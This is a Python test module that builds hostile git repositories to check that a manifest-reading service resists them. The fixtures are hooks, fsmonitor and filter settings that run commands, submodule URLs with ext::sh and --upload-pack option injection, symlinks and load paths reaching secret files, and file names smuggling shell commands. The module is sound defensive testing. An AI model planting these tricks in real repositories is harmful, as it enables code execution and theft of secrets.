"""Repositories with files that want to be run, followed or taken for others."""

from tests.service.git.raw_repository import Objects, Raw
from tests.service.hostile.corpus import (
    ABSENT,
    CASES,
    DAMAGED,
    FILE,
    FOLDER,
    LINK,
    MANIFEST,
    PROGRAM,
    READ,
    SUBMODULE,
    UNREADABLE,
    Hostile,
    Traps,
    files,
    hostile,
    served,
    with_entries,
)


@hostile(READ)
def hooks(objects: Objects, traps: Traps) -> Raw:
    script = objects.blob(f"#!/bin/sh\n{traps.command}\n".encode())
    names = (
        b"post-checkout",
        b"post-merge",
        b"pre-auto-gc",
        b"reference-transaction",
        b"post-index-change",
        b"fsmonitor-watchman",
    )
    folder = objects.tree([(PROGRAM, name, script) for name in names])
    return with_entries(objects, (FOLDER, b"hooks", folder), (FOLDER, b".githooks", folder))


@hostile(READ)
def a_bare_repository_within(objects: Objects, traps: Traps) -> Raw:
    settings = f"[core]\n\tbare = true\n\tfsmonitor = {traps.command}\n\tsshCommand = {traps.command}\n"
    settings += f"\tpager = {traps.command}\n[alias]\n\tls-tree = !{traps.command}\n"
    empty = objects.tree([])
    inside = {b"HEAD": b"ref: refs/heads/main\n", b"config": settings.encode()}
    folders = ((FOLDER, b"objects", empty), (FOLDER, b"refs", empty))
    return with_entries(objects, *((FILE, name, objects.blob(body)) for name, body in inside.items()), *folders)


@hostile(READ)
def filters(objects: Objects, traps: Traps) -> Raw:
    attributes = b"* filter=canary diff=canary merge=canary textconv=canary\n*.ipynb filter=lfs\n"
    settings = f'[filter "canary"]\n\tsmudge = {traps.command}\n\tclean = {traps.command}\n\tprocess = {traps.command}\n'
    settings += f'\trequired = true\n[diff "canary"]\n\ttextconv = {traps.command}\n\tcommand = {traps.command}\n'
    return files(objects, {b".gitattributes": attributes, b".gitconfig": settings.encode(), b"a.ipynb": b"{}"})


@hostile(READ)
def attributes_of_archives(objects: Objects, traps: Traps) -> Raw:
    del traps
    return files(objects, {b".gitattributes": b"* export-subst ident working-tree-encoding=UTF-7 eol=crlf\n"})


@hostile(READ)
def large_file_storage(objects: Objects, traps: Traps) -> Raw:
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"a" * 64 + b"\nsize 12345\n"
    settings = f"[lfs]\n\turl = http://{traps.host}/lfs\n\tcustomtransfer.x.path = {traps.canary}\n"
    contents = {b".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n", b".lfsconfig": settings.encode()}
    return files(objects, {**contents, b"data.bin": pointer})


@hostile(UNREADABLE)
def a_manifest_in_large_file_storage(objects: Objects, traps: Traps) -> Raw:
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'a' * 64}\nsize 12345\n".encode()
    settings = f"[lfs]\n\turl = http://{traps.host}/lfs\n".encode()
    return files(objects, {b"manifest.scm": pointer, b".gitattributes": b"* filter=lfs\n", b".lfsconfig": settings})


@hostile(UNREADABLE)
def a_manifest_that_runs_something(objects: Objects, traps: Traps) -> Raw:
    return files(objects, {b"manifest.scm": f'(system "{traps.command}")'.encode()})


# Submodules


def modules(objects: Objects, text: str) -> Raw:
    """Return a repository whose submodules are those of TEXT, with a submodule at ``x``."""
    wanted = (SUBMODULE, b"x", ABSENT)
    return with_entries(objects, (FILE, b".gitmodules", objects.blob(text.encode())), wanted)


@hostile(READ)
def a_submodule_elsewhere(objects: Objects, traps: Traps) -> Raw:
    return modules(objects, f'[submodule "x"]\n\tpath = x\n\turl = http://{traps.host}/x.git\n')


@hostile(READ)
def a_submodule_by_a_command(objects: Objects, traps: Traps) -> Raw:
    return modules(objects, f'[submodule "x"]\n\tpath = x\n\turl = "ext::sh -c \\"{traps.command}\\""\n')


@hostile(READ)
def a_submodule_of_the_machine(objects: Objects, traps: Traps) -> Raw:
    return modules(objects, f'[submodule "x"]\n\tpath = x\n\turl = file://{traps.secret.parent}\n')


@hostile(DAMAGED)
def a_submodule_with_an_option_for_an_address(objects: Objects, traps: Traps) -> Raw:
    return modules(objects, f'[submodule "x"]\n\tpath = x\n\turl = "--upload-pack={traps.command}"\n')


@hostile(DAMAGED)
def a_submodule_with_an_option_for_a_folder(objects: Objects, traps: Traps) -> Raw:
    return modules(objects, f'[submodule "x"]\n\tpath = -oProxyCommand={traps.canary}\n\turl = http://{traps.host}/x\n')


@hostile(DAMAGED)
def a_submodule_named_out_of_the_folder(objects: Objects, traps: Traps) -> Raw:
    return modules(objects, f'[submodule "../../hooks"]\n\tpath = x\n\turl = http://{traps.host}/x\n')


@hostile(DAMAGED)
def a_submodule_updated_by_a_command(objects: Objects, traps: Traps) -> Raw:
    return modules(objects, f'[submodule "x"]\n\tpath = x\n\turl = http://{traps.host}/x\n\tupdate = !{traps.command}\n')


@hostile(READ)
def a_submodule_with_a_carriage_return(objects: Objects, traps: Traps) -> Raw:
    # CVE-2025-48384: the folder that is written and the one that is read differ.
    return modules(objects, f'[submodule "x"]\n\tpath = "x\r"\n\turl = http://{traps.host}/x\n')


@hostile(DAMAGED)
def a_submodule_with_a_line_in_its_address(objects: Objects, traps: Traps) -> Raw:
    return modules(objects, f'[submodule "x"]\n\tpath = x\n\turl = "https://forge.example\\nhost={traps.host}/x"\n')


@hostile(DAMAGED)
def submodules_by_a_link(objects: Objects, traps: Traps) -> Raw:
    return with_entries(objects, (LINK, b".gitmodules", objects.blob(str(traps.secret).encode())))


@hostile("manifest-missing")
def a_manifest_that_is_a_submodule(objects: Objects, traps: Traps) -> Raw:
    text = f'[submodule "m"]\n\tpath = manifest.scm\n\turl = http://{traps.host}/x\n'.encode()
    tree = objects.tree([(FILE, b".gitmodules", objects.blob(text)), (SUBMODULE, b"manifest.scm", ABSENT)])
    return served(objects, objects.commit(tree))


# Links


@hostile(UNREADABLE)
def a_manifest_that_links_out(objects: Objects, traps: Traps) -> Raw:
    return files(objects, {b"manifest.scm": (LINK, str(traps.secret).encode())})


@hostile(UNREADABLE)
def a_manifest_that_links_upwards(objects: Objects, traps: Traps) -> Raw:
    return files(objects, {b"manifest.scm": (LINK, b"../" * 40 + str(traps.secret)[1:].encode())})


@hostile(UNREADABLE)
def a_manifest_that_links_to_itself(objects: Objects, traps: Traps) -> Raw:
    del traps
    return files(objects, {b"manifest.scm": (LINK, b"manifest.scm")})


@hostile("manifest-missing")
def a_folder_that_links_out(objects: Objects, traps: Traps) -> Raw:
    (traps.secret.parent / "manifest.scm").write_bytes(MANIFEST)
    link = objects.blob(str(traps.secret.parent).encode())
    return served(objects, objects.commit(objects.tree([(LINK, b".guix", link), (LINK, b"guix", link)])))


@hostile(UNREADABLE)
def a_manifest_that_loads_a_link(objects: Objects, traps: Traps) -> Raw:
    return files(objects, {b"manifest.scm": b'(load "a.scm")', b"a.scm": (LINK, str(traps.secret).encode())})


@hostile(UNREADABLE)
def a_manifest_that_loads_a_file_of_the_machine(objects: Objects, traps: Traps) -> Raw:
    return files(objects, {b"manifest.scm": f'(load "{traps.secret}")'.encode()})


@hostile(UNREADABLE)
def a_manifest_that_loads_from_above(objects: Objects, traps: Traps) -> Raw:
    up = "../" * 40 + str(traps.secret)[1:]
    return files(objects, {b"manifest.scm": f'(load "{up}")'.encode()})


@hostile(READ)
def links_for_everything_else(objects: Objects, traps: Traps) -> Raw:
    link = (LINK, str(traps.secret).encode())
    return files(objects, {b".mailmap": link, b"index.ipynb": link, b"channels.scm": link, b".gitignore": link})


# Names


def odd(name: bytes, outcome: str, mode: str = FOLDER) -> None:
    """Add a repository that has a folder or a file called NAME."""

    def build(objects: Objects, traps: Traps) -> Raw:
        hook = objects.blob(f"#!/bin/sh\n{traps.command}\n".encode())
        of = objects.tree([(PROGRAM, b"config", hook)]) if mode == FOLDER else hook
        return with_entries(objects, (mode, name, of))

    CASES.append(Hostile(f"the name {name!r:.40}", outcome, build))


for _name in (b".git", b".GIT", b".gIt", b"git~1", b"GIT~1", b".git ", b".git.", b".git...", b".git::$INDEX_ALLOCATION"):
    odd(_name, DAMAGED)
odd(".g\u200cit".encode(), DAMAGED)
odd("\ufeff.git".encode(), DAMAGED)
for _name in (b".", b"..", b"", b"a/b", b"../../hooks", b"/etc"):
    odd(_name, DAMAGED)
for _name in (
    b"-rf",
    b"--upload-pack=id",
    b"-oProxyCommand=id",
    b"a\nb",
    b"\x1b[31mred",
    b"\xff\xfe",
    b"a\\..\\b",
    b"x" * 255,
):
    odd(_name, READ, FILE)
odd("\u202egnp.exe".encode(), READ, FILE)
odd(b"'; touch CANARY; '", READ, FILE)
odd(b"$(touch CANARY)", READ, FILE)


@hostile(READ)
def notebooks_with_odd_names(objects: Objects, traps: Traps) -> Raw:
    del traps
    names = (
        b"\x1b]0;x\x07.ipynb",
        b"a\nb.ipynb",
        b"\xff.ipynb",
        b"a\\b.ipynb",
        "\u202e.ipynb".encode(),
        b"x" * 240 + b".ipynb",
    )
    return files(objects, dict.fromkeys(names, b"{}"))


@hostile(DAMAGED)
def two_manifests_of_one_name(objects: Objects, traps: Traps) -> Raw:
    return with_entries(objects, (FILE, b"manifest.scm", objects.blob(f'(system "{traps.command}")'.encode())))


@hostile(DAMAGED)
def a_tree_out_of_order(objects: Objects, traps: Traps) -> Raw:
    del traps
    return with_entries(objects, (FILE, b"a", objects.blob(b"")), sort=False)


@hostile(READ)
def a_tree_with_modes_that_are_none(objects: Objects, traps: Traps) -> Raw:
    del traps
    return with_entries(objects, ("777777", b"a", objects.blob(b"")))
